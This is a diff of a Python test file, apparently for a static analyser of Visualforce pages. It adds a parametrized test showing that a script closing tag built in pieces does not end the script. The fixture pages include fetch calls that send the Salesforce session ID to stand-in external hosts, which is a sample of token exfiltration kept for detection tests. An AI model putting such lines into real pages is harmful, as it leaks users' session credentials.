@@ -541,3 +541,15 @@ def test_a_field_id_written_as_a_merge_field_is_not_followed() -> None:
     ir = lower(page('<input type="hidden" id="{!fieldId}" value="{!$Api.Session_ID}"/>\n'
                     '<script>fetch("https://x.example.com/a?t=" + document.getElementById("sid").value);</script>'))
     assert ir.url_uses == ()
+
+
+@pytest.mark.parametrize("closer", ['"</script" + ">"', "'</script' + '>'", '"</SCRIPT"+">"', "'</style'+'>'"])
+def test_a_script_writing_a_closing_tag_in_pieces_is_still_one_script(closer: str) -> None:
+    """`"</script" + ">"` does not end a script: a browser ends it only at `</script` followed by a
+    space, `/` or `>`. Read as the end, the rest of the script and page were parse errors, and the
+    request after it was never seen."""
+    ir = lower(page("<script>\n  document.write('<b>' + " + closer + ");\n"
+                    "  fetch('https://api.partner.example.com/?s={!$Api.Session_ID}');\n</script>\n<p>after</p>"))
+    assert ir.notifications == ()
+    assert [(u.sink, u.url) for u in ir.url_uses] == [("fetch", "https://api.partner.example.com/?s={!$Api.Session_ID}")]
+    assert [u.span.start_line for u in ir.url_uses] == [4]
